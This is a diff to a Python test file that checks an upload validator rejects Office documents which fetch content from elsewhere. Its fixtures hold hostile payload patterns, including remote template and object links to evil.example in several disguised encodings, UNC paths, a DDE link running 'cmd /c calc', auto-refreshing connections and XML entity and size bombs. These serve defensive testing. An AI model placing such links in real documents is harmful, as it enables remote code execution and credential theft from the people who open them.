@@ -3,6 +3,7 @@
 import io
 import time
 import tracemalloc
+import warnings
 import zipfile
 from contextlib import suppress
 
@@ -130,6 +131,91 @@ def test_other_kinds_are_refused_whatever_is_inside(name: str) -> None:
 )
 def test_names_lose_folders_tricks_and_excess(given: str, plain: str) -> None:
     assert plain_name(given) == plain
+
+
+def linked(*links: tuple[str, str, str], mode: str = ' TargetMode="External"', **parts: str) -> bytes:
+    """A document with relationships of these kinds: where their parts lie, what they are, and where they lead."""
+    made = io.BytesIO(archive("[Content_Types].xml", *_OFFICE_PARTS.values()))
+    with zipfile.ZipFile(made, "a") as file:
+        for number, (name, kind, target) in enumerate(links):
+            said = f'<Relationship Id="r{number}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
+            file.writestr(name, f'<?xml version="1.0"?><Relationships xmlns="x">{said}</Relationships>')
+        for name, content in parts.items():
+            file.writestr(name.replace("__", "/"), content)
+    return made.getvalue()
+
+
+SETTINGS, DOCUMENT, BOOK = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
+
+
+@pytest.mark.parametrize(
+    ("ending", "name", "kind", "target"),
+    [
+        (".docx", SETTINGS, "attachedTemplate", "https://evil.example/a.dotm"),
+        (".docx", SETTINGS, "attachedTemplate", "HTTP&#58;//evil.example/a.dotm"),
+        (".docx", SETTINGS, "attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm"),
+        (".docx", SETTINGS, "attachedTemplate", "file://evil.example/share/a.dotm"),
+        (".docx", SETTINGS, "attachedTemplate", "%5C%5Cevil.example%5Cshare%5Ca.dotm"),
+        (".docx", SETTINGS, "attachedTemplate", "mhtml:https://evil.example/a!x"),
+        (".docx", "WORD/_RELS/SETTINGS.XML.RELS", "attachedTemplate", "//evil.example/a.dotm"),
+        (".docx", DOCUMENT, "frame", "https://evil.example/a.htm"),
+        (".docx", DOCUMENT, "subDocument", "https://evil.example/a.docx"),
+        (".docx", DOCUMENT, "oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"),
+        (".pptx", "ppt/slides/_rels/slide1.xml.rels", "oleObject", "https://evil.example/a.html!"),
+    ],
+)
+def test_a_document_that_fetches_from_elsewhere_is_refused(ending: str, name: str, kind: str, target: str) -> None:
+    with pytest.raises(Problem) as refused:
+        media_type_of(f"a{ending}", linked((name, kind, target)))
+    assert refused.value.status == 422
+    assert "fetches something from elsewhere" in refused.value.detail
+
+
+def test_a_workbook_that_fetches_or_calls_by_itself_is_refused_and_one_that_asks_is_not() -> None:
+    def taken(kind: str, part: str, content: str, target: str | None = None) -> bool:
+        book = linked((BOOK, kind, target or part.removeprefix("xl/")), mode="", **{part: content})
+        with suppress(Problem):
+            return media_type_of("a.xlsx", book) == MEDIA_TYPES[".xlsx"]
+        return False
+
+    cells = "<cell/>" * 100_000
+    called = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    book = f'<externalLink xmlns="x"><externalBook r:id="r1" xmlns:r="y"><sheetNames/>{cells}</externalBook></externalLink>'
+    assert not taken("externalLink", "xl/externalLinks/externalLink1.xml", called)
+    assert not taken("externalLink", "xl/other.xml", called, "/xl/other.xml")
+    assert taken("externalLink", "xl/externalLinks/externalLink1.xml", book)
+    source = (
+        '<connections xmlns="x"><connection id="1"/><x:connection xmlns:x="x" id="2" refreshOnLoad="{}"/></connections>'
+    )
+    assert not taken("connections", "xl/connections.xml", source.format("1"))
+    assert taken("connections", "xl/connections.xml", source.format("0"))
+    for ordinary in (
+        (SETTINGS, "attachedTemplate", "file:///C:\\Users\\Ann\\Templates\\Report.dotx"),
+        (SETTINGS, "attachedTemplate", "C:/Templates/Report.dotx"),
+        (SETTINGS, "attachedTemplate", "Templates/Report.dotx"),
+        (DOCUMENT, "hyperlink", "https://www.gov.uk/"),
+        (DOCUMENT, "oleObject", "file:///\\\\server\\share\\figures.xlsx"),
+        ("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "https://council.example/book.xlsx"),
+    ):
+        assert media_type_of("a.docx", linked(ordinary))
+
+
+def test_relationships_that_cannot_be_read_are_not_taken_on_trust() -> None:
+    entity = (
+        '<!DOCTYPE r [<!ENTITY a "https://evil.example/">]><Relationships><Relationship Target="&a;"/></Relationships>'
+    )
+    twice = io.BytesIO(linked((SETTINGS, "attachedTemplate", "https://evil.example/a.dotm")))
+    with zipfile.ZipFile(twice, "a") as file, warnings.catch_warnings(action="ignore"):
+        file.writestr(SETTINGS, "<Relationships/>")
+    with pytest.raises(Problem):
+        media_type_of("a.docx", twice.getvalue())
+    bursting = "<Relationships>" + "<Relationship/>" * 2_000_000 + "</Relationships>"
+    for said in (entity, "<Relationships", "no XML", bursting):
+        content = io.BytesIO(REAL[".docx"])
+        with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as file:
+            file.writestr(SETTINGS, said)
+        with pytest.raises(Problem):
+            media_type_of("a.docx", content.getvalue())
 
 
 def bomb(part: str, *, kind: str | None = None) -> bytes:
